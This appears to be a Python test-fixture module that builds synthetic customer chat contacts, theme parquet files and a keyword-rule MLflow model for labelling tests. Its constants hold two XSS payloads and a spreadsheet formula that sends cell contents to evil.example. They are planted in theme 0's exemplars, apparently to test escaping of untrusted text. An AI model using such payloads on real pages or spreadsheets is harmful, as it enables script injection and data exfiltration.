"""Tiny real data for the labelling tests: a discovery output folder, contacts with PII, a model.

Shaped like what ``voc discover`` writes (``themes.parquet``, ``assignments.parquet``) and what
the classifier helper registers (an MLflow pyfunc returning root_cause, family, confidence,
needs_review), so the code paths are the real ones.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

DIM = 384
SCRIPT_PAYLOAD = "<script>document.title='PWNED'</script>"
IMG_PAYLOAD = "<img src=x onerror=\"document.body.setAttribute('data-pwned','1')\">"
FORMULA_PAYLOAD = '=HYPERLINK("http://evil.example/steal?x="&A1,"click")'

# theme id -> (topic words, root cause, number of members)
TOPICS = {
    0: ("refund never arrived money back", "refund_not_received", 12),
    1: ("parcel late shipping delay tracking", "shipping_delay", 10),
    2: ("wrong size too small fit", "wrong_size_fit", 8),
    3: ("cancel order changed my mind", "changed_mind", 6),
}


def unit(rng: np.random.Generator, dim: int = DIM) -> np.ndarray:
    v = rng.normal(size=dim).astype(np.float32)
    return v / np.linalg.norm(v)


def centroid_of(theme_id: int) -> np.ndarray:
    """Theme ``theme_id``'s centroid, the same in every run (as discovery's stable ids promise)."""
    return unit(np.random.default_rng(1000 + theme_id))


def make_contacts(seed: int = 0) -> pd.DataFrame:
    """Contacts (chat transcripts with an email address and phone in them), with ground truth."""
    rng = np.random.default_rng(seed)
    rows = []
    for theme_id, (words, cause, n) in TOPICS.items():
        for i in range(n):
            cid = f"C{theme_id}{i:03d}"
            picked = " ".join(rng.permutation(words.split()))
            rows.append(
                {
                    "contact_id": cid,
                    "text": f"Agent: Hello, how can I help?\nCustomer: {picked} please, "
                    f"write to jane.doe{i}@example.com or call +44 20 7946 0{i:03d}",
                    "channel": "chat",
                    "root_cause": cause,
                    "theme_id": theme_id,
                }
            )
    rows.append(
        {
            "contact_id": "C9999",
            "text": "Customer: just browsing",
            "channel": "chat",
            "root_cause": "changed_mind",
            "theme_id": -1,
        }
    )
    return pd.DataFrame(rows)


def make_themes_dir(
    folder: Path,
    contacts: pd.DataFrame,
    seed: int = 0,
    sizes: dict[int, int] | None = None,
    new: set[int] | None = None,
    only: set[int] | None = None,
) -> Path:
    """Write ``folder/themes.parquet`` and ``folder/assignments.parquet`` for ``contacts``.

    ``sizes`` overrides theme sizes, ``new`` flags themes new, ``only`` keeps just those themes.
    Theme 0's exemplars carry a script payload, an image payload and a formula payload.
    """
    rng = np.random.default_rng(seed)
    folder.mkdir(parents=True, exist_ok=True)
    themes = []
    for theme_id, (words, _cause, n) in TOPICS.items():
        if only is not None and theme_id not in only:
            continue
        exemplars = [f"{words} example {k}" for k in range(5)]
        if theme_id == 1:  # control characters, which xlsx cannot hold, and a leading tab
            exemplars[3:] = ["\x1b[31mangry\x00 customer\x0b", "\tindented with a tab"]
        if theme_id == 0:
            exemplars = [
                SCRIPT_PAYLOAD,
                IMG_PAYLOAD,
                FORMULA_PAYLOAD,
                "-1 star, @support never answered",
                *exemplars[:1],
            ]
        themes.append(
            {
                "theme_id": theme_id,
                "parent_id": 100 + theme_id // 2,
                "size": (sizes or {}).get(theme_id, n),
                "keywords": words.split()[:4],
                "exemplars": exemplars,
                "is_new": theme_id in (new or set()),
                "label": None,
                "centroid": centroid_of(theme_id).tolist(),
            }
        )
    pd.DataFrame(themes).to_parquet(folder / "themes.parquet", index=False)
    assignments = pd.DataFrame(
        {
            "contact_id": contacts["contact_id"],
            "theme_id": contacts["theme_id"].astype("int64"),
            "probability": np.where(contacts["theme_id"] >= 0, rng.uniform(0.5, 1.0, len(contacts)), 0.0),
        }
    )
    assignments.to_parquet(folder / "assignments.parquet", index=False)
    return folder


def register_keyword_model(tracking_uri: str, artifacts: Path, name: str = "root-cause") -> str:
    """Log and register a keyword-rule pyfunc with alias ``champion``; return its models:/ URI."""
    import mlflow
    from mlflow.models import infer_signature

    mlflow.set_tracking_uri(tracking_uri)
    mlflow.set_registry_uri(tracking_uri)
    experiment = "label-tests"
    if mlflow.get_experiment_by_name(experiment) is None:
        mlflow.create_experiment(experiment, artifact_location=artifacts.as_uri())
    mlflow.set_experiment(experiment)

    example = pd.DataFrame({"text": ["my refund never arrived"]})

    class KeywordModel(mlflow.pyfunc.PythonModel):
        def predict(self, context: Any, model_input: pd.DataFrame, params: Any = None) -> pd.DataFrame:
            return KeywordRules().predict(model_input)

    model = KeywordModel()
    with mlflow.start_run():
        info = mlflow.pyfunc.log_model(
            name="model",
            python_model=model,
            signature=infer_signature(example, model.predict(None, example)),
            input_example=example,
            registered_model_name=name,
            code_paths=[__file__],  # the model class lives here; loadable from any process
        )
    client = mlflow.MlflowClient()
    client.set_registered_model_alias(name, "champion", info.registered_model_version)
    return f"models:/{name}@champion"


class KeywordRules:
    """A rule-based stand-in for the champion: keywords -> root cause, with a made-up confidence."""

    RULES = (
        ("refund", "refund_not_received", "refund", 0.9),
        ("late", "shipping_delay", "delivery", 0.8),
        ("size", "wrong_size_fit", "return", 0.7),
    )

    def predict(self, model_input: pd.DataFrame) -> pd.DataFrame:
        rows = []
        for text in model_input["text"]:
            low = str(text).lower()
            hit = next((r for r in self.RULES if r[0] in low), None)
            cause, family, conf = (hit[1], hit[2], hit[3]) if hit else ("changed_mind", "cancellation", 0.3)
            conf = conf - (len(low) % 7) / 100  # distinct confidences, deterministic
            rows.append(
                {"root_cause": cause, "family": family, "confidence": conf, "needs_review": conf < 0.5}
            )
        return pd.DataFrame(rows)
